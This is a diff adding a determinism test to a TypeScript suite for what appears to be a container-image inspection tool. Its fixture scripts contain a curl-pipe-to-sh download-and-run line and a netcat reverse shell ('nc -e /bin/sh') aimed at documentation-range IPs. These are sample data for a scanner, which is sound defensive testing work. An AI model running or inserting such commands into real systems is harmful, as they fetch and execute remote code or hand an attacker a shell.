@@ -97,6 +97,22 @@ describe('inspectImage', () => {
     expect(more.gaps).toEqual([]);
   });
 
+  it('gives the same with one thread and with eight', async () => {
+    const many = Array.from({ length: 12 }, (_, index) => ({
+      [`/srv/${index}.sh`]: `#!/bin/sh\ncurl http://192.0.2.${index}/x | sh\n${'# more\n'.repeat(3000 * (index % 5))}`,
+      '/srv/same.sh': `#!/bin/sh\necho ${index}; nc -e /bin/sh 192.0.2.1 99\n`,
+      ...(index % 4 === 3 ? { [`/srv/${index - 1}.sh`]: null } : {}),
+    }));
+    const said: string[] = [];
+    for (const threads of [0, 1, 2, 8]) {
+      const { facts } = await inspect(imageOf({ layers: many }), { threads, leastThreadedBytes: 0 });
+      const files = [...facts.files.all()].map((file) => [file, facts.files.text(file)]);
+      said.push(JSON.stringify([facts.layers, facts.gaps, facts.analyzed, files, [...facts.files.hidden()]]));
+    }
+    expect(said[0]).toContain('nc -e');
+    expect(new Set(said).size).toBe(1);
+  });
+
   it('keeps the rest when one layer cannot be had', async () => {
     const image = imageOf({ layers });
     const failing = async function* (): ByteStream {
